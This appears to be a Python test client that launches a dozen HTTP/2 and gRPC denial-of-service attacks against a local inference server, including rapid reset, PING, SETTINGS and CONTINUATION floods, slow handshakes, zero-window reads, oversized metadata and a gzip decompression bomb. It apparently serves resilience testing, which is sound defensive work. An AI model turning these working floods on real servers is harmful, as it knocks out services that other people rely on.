"""Attacks on a local server; each runs until stdin ends, 60 s at most.

usage: hostile_client.py ATTACK PORT COUNT

Prints a line once COUNT things are done, and at the end how many it were.
"""

import collections
import gzip
import os
import select
import socket
import struct
import sys
import threading
import time

import grpc

import raw_http2 as h2

GENERATE = "ovq.v1.InferenceService/Generate"
TOKENIZE = "ovq.v1.InferenceService/Tokenize"
REFLECTION = "grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"


def reconnecting(port, attack, first=None):
    """Runs attack(connection) repeatedly, on a new connection when the server ends the old one;
    yields its results."""
    while True:
        connection = h2.Connection(port, first)
        try:
            while connection.discard() and connection.next_stream < 1 << 20:
                yield attack(connection)
        except OSError:
            yield 0
        finally:
            connection.close()


def half_open_streams(port):
    """Calls whose headers arrive, followed by single bytes of a long message."""
    connections = [h2.Connection(port) for _ in range(4)]
    streams = []
    for connection in connections:
        for _ in range(500):
            stream = connection.new_stream()
            connection.send(h2.call(stream, GENERATE))
            streams.append((connection, stream))
    head = struct.pack(">BI", 0, 1 << 20)
    for i in range(100):  # 50,000 bytes for each connection, below its window
        byte = head[i:i + 1] or b"\0"
        for connection, stream in streams:
            connection.send(h2.frame(h2.DATA, 0, stream, byte))
        for connection in connections:
            if not connection.discard():
                raise SystemExit("the server has closed")
        yield len(streams)
    while True:
        time.sleep(0.1)
        yield 0


def zero_windows(port):
    """Answers that are hardly read: a byte now and then."""
    connections = [h2.Connection(port, h2.settings(initial_window_size=0)) for _ in range(4)]
    request = h2.message(bytes.fromhex(os.environ["OVQ_TEST_REQUEST"]))
    for connection in connections:
        for _ in range(25):
            stream = connection.new_stream()
            connection.send(h2.call(stream, GENERATE) + h2.data_frames(stream, request))
    one = struct.pack(">I", 1)
    while True:
        for connection in connections:
            connection.discard()
            for stream in range(1, connection.next_stream, 2):
                connection.send(h2.frame(h2.WINDOW_UPDATE, 0, stream, one))
        yield 100
        time.sleep(0.05)


def rapid_reset(port):
    """Calls that are cancelled as soon as they are made, at most 5,000 a second."""
    cancel = struct.pack(">I", 8)

    def attack(connection):
        data = b""
        for _ in range(100):
            stream = connection.new_stream()
            data += h2.call(stream, GENERATE) + h2.frame(h2.RST_STREAM, 0, stream, cancel)
        connection.send(data)
        time.sleep(0.02)
        return 100

    return reconnecting(port, attack)


def flood(port, data):
    """Half a million frames a second that require answers, which are never read."""
    while True:
        connection = h2.Connection(port)
        try:
            for _ in range(100):
                connection.send(data * 1000)
                yield 1000
                time.sleep(0.002)
        except OSError:
            yield 0
        finally:
            connection.close()


def pings(port):
    return flood(port, h2.frame(h2.PING, 0, 0, bytes(8)))


def all_settings(port):
    return flood(port, h2.settings(initial_window_size=65535))


def continuations(port):
    """Endless metadata, at most 50 MB a second."""
    more = h2.frame(h2.CONTINUATION, 0, 1, h2.header("x", "y" * 1000)) * 100

    def attack(connection):
        if connection.next_stream == 1:
            connection.send(h2.frame(h2.HEADERS, 0, connection.new_stream(),
                                     h2.call_headers(GENERATE)))
        connection.send(more)
        time.sleep(0.002)
        return 100

    return reconnecting(port, attack)


def big_metadata(port):
    """Calls with more metadata than the server accepts."""
    more = [h2.header(f"big-{i}", "x" * 4000) for i in range(10)]

    def attack(connection):
        block = h2.call_headers(TOKENIZE, *more)
        stream = connection.new_stream()
        parts = [block[i:i + 16384] for i in range(0, len(block), 16384)]
        connection.send(h2.frame(h2.HEADERS, 0, stream, parts[0]) + b"".join(
            h2.frame(h2.CONTINUATION, h2.END_HEADERS if part is parts[-1] else 0, stream, part)
            for part in parts[1:]))
        time.sleep(0.002)
        return 1

    return reconnecting(port, attack)


def bombs(port):
    """60 MB of zeros compressed to 60 KB, one for each connection: as much as its window allows."""
    bomb = h2.message(gzip.compress(bytes(60_000_000)), compressed=True)
    assert len(bomb) < h2.CONNECTION_WINDOW
    while True:
        connection = h2.Connection(port)
        try:
            connection.send(h2.call(1, TOKENIZE, h2.header("grpc-encoding", "gzip")) +
                            h2.data_frames(1, bomb))
            time.sleep(0.005)
            connection.discard()
            yield 1
        except OSError:
            yield 0
        finally:
            connection.close()


def slow_handshakes(port):
    """Connections that send the preface byte by byte, and begin again when they are closed."""
    crowd = {}
    while True:
        for i in range(300):
            try:
                connection, sent = crowd.get(i) or (
                    socket.create_connection(("127.0.0.1", port), 10), 0)
                connection.sendall(h2.PREFACE[sent:sent + 1] if sent < 20 else b"")
                crowd[i] = (connection, sent + 1)
            except OSError:
                crowd.pop(i)[0].close()
        yield 300
        time.sleep(0.1)


def calling(port, call):
    """Runs call(channel) from 4 threads, within what gRPC's own client allows."""
    done, failed = collections.deque(), []

    def work():
        with grpc.insecure_channel(f"127.0.0.1:{port}",
                                   [("grpc.use_local_subchannel_pool", 1)]) as channel:
            while not failed:
                try:
                    call(channel)
                    done.append(1)
                except Exception as error:
                    failed.append(error)

    for _ in range(4):
        threading.Thread(target=work, daemon=True).start()
    before = 0
    while not failed:
        time.sleep(0.05)
        now = len(done)
        yield now - before
        before = now
    raise failed[0]


SYMBOL = b"ovq.v1.InferenceService"
DESCRIPTORS = b"\x22" + bytes([len(SYMBOL)]) + SYMBOL  # file_containing_symbol = 4


def reflection(port):
    """Streams of 20 requests each for the descriptors of all services."""
    def call(channel):
        answers = list(
            channel.stream_stream(f"/{REFLECTION}")(iter([DESCRIPTORS] * 20), timeout=30))
        if len(answers) != 20:
            raise AssertionError(f"{len(answers)} answers")

    return calling(port, call)


def reflection_streams(port):
    """Thousands of streams at once, which the client keeps open."""
    connections = [h2.Connection(port) for _ in range(8)]
    for _ in range(500):
        for connection in connections:
            stream = connection.new_stream()
            connection.send(h2.call(stream, REFLECTION) +
                            h2.frame(h2.DATA, 0, stream, h2.message(DESCRIPTORS)))
            connection.discard()
        yield len(connections)
    while True:
        for connection in connections:
            connection.discard()
        time.sleep(0.05)
        yield 0


def invalid_utf8(port):
    def call(channel):
        try:
            channel.unary_unary(f"/{TOKENIZE}")(b"\x0a\x02\xff\xfe", timeout=30)
        except grpc.RpcError as error:
            if error.code() != grpc.StatusCode.INVALID_ARGUMENT:
                raise
        else:
            raise AssertionError("taken")

    return calling(port, call)


ATTACKS = {attack.__name__: attack for attack in (
    half_open_streams, zero_windows, rapid_reset, pings, all_settings, continuations, big_metadata,
    bombs, slow_handshakes, reflection,
    reflection_streams, invalid_utf8)}


def main():
    # low priority, as if on another machine: the attack takes no processor from the server
    os.nice(19)
    rounds = ATTACKS[sys.argv[1]](int(sys.argv[2]))
    done = 0
    end = time.monotonic() + 60
    while time.monotonic() < end and done < int(sys.argv[3]):
        done += next(rounds)
    print("attacking", flush=True)
    while time.monotonic() < end and not select.select([sys.stdin], [], [], 0)[0]:
        done += next(rounds)
    print(done, flush=True)
    os._exit(0)  # threads may be blocked on the server


if __name__ == "__main__":
    main()
